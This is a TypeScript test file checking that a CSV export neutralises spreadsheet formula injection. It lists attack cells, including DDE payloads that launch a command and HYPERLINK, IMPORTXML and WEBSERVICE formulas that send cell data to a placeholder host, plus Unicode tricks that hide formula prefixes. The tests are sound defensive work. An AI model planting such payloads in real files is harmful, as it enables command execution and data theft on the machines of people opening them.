// What a spreadsheet executes when somebody opens a file: in no delivered cell, in no header, in no list of rejects.
import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import fc from 'fast-check'
import { afterAll, describe, expect, test } from 'vitest'
import { rejectFile } from '../../src/adapters/files/reject-file.ts'
import { csvEncoder } from '../../src/release/shape/csv-encoder.ts'
import { isFormula, neutralised } from '../../src/release/shape/neutralise.ts'

const folder = mkdtempSync(join(tmpdir(), 'fairshare-sheets-'))
afterAll(() => rmSync(folder, { recursive: true, force: true }))

const attacks = [
  ...[
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '\r\n=1',
    ' =1',
    '   =1',
    '\u00a0=1',
    '\u3000=1',
  ],
  ...[
    '\ufeff=1',
    '\u200b=1',
    '\u00ad=1',
    '\u2060=1',
    '\u202e=1',
    '\u0000=1',
    '\u001f=1',
    '\u0085=1',
    '\u2028=1',
  ],
  ...[
    '＝1',
    '＋1',
    '－1',
    '＠SUM(1)',
    ' ＝1',
    '\u200b＋1',
    '﹢1',
    '﹣1',
    '﹦1',
    '﹫SUM(1)',
    '⁼1',
    '⁺1',
    '₌1',
    '₊1',
  ],
  ...["=cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"x")', '+cmd|x!A1', '@cmd|x!A1', '-2+3+cmd|x!A0'],
  ...[
    '=HYPERLINK("http://x?"&A1)',
    '=IMPORTXML(CONCAT("http://x?",A1))',
    '=WEBSERVICE("http://x")',
    '="a"',
    "='a'",
  ],
]
const harmless = [
  'Ann',
  "O'Brien",
  '12 High Street',
  '"=1"',
  "'=1",
  'a=1',
  'é',
  '',
  '1',
  '(1)',
  '#N/A',
  '%',
  '—',
  'x@y.example',
]

describe('a cell of free text', () => {
  test.each(attacks.map((cell) => [JSON.stringify(cell), cell]))('%s is shown, not executed', (_, cell) => {
    expect(isFormula(cell)).toBe(true)
    expect(neutralised(cell)).toBe(`'${cell}`)
  })

  test.each(harmless.map((cell) => [JSON.stringify(cell), cell]))('%s is as it was', (_, cell) => {
    expect(neutralised(cell)).toBe(cell)
  })

  test('whatever it becomes when a program normalises or trims it, it begins no formula', () => {
    const piece = fc.constantFrom(
      ...'=+-@＝＋－＠﹢﹣﹦﹫\t\r\n \u00a0\u200b\ufeff\u00ad\'"a1'.split(/(?:)/u),
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
        const shown = neutralised(pieces.join(''))
        for (const form of [shown, shown.normalize('NFKC'), shown.trim(), shown.normalize('NFKC').trim()])
          expect(/^[=+\-@]/.test(form)).toBe(false)
      }),
      { seed: 2018, numRuns: 2000 },
    )
  })

  test('cannot become two cells, of which the second is a formula', () => {
    const encoder = csvEncoder(['a', 'b'])
    encoder.add(['x","=1', 'x\r\n=1'])
    expect(Buffer.from(encoder.end()!).toString()).toBe('a,b\r\n"x"",""=1","x\r\n=1"\r\n')
  })
})

test('a list of rejects holds numbers and our own words, in quotes', () => {
  const path = join(folder, 'people.csv.rejects.csv')
  const sink = rejectFile(path)
  sink.start()
  sink.write({ line: 3, reason: 'it has 3 cells, the header has "4"' })
  sink.finish()
  expect(readFileSync(path, 'utf8')).toBe('line,reason\n3,"it has 3 cells, the header has ""4"""\n')
})
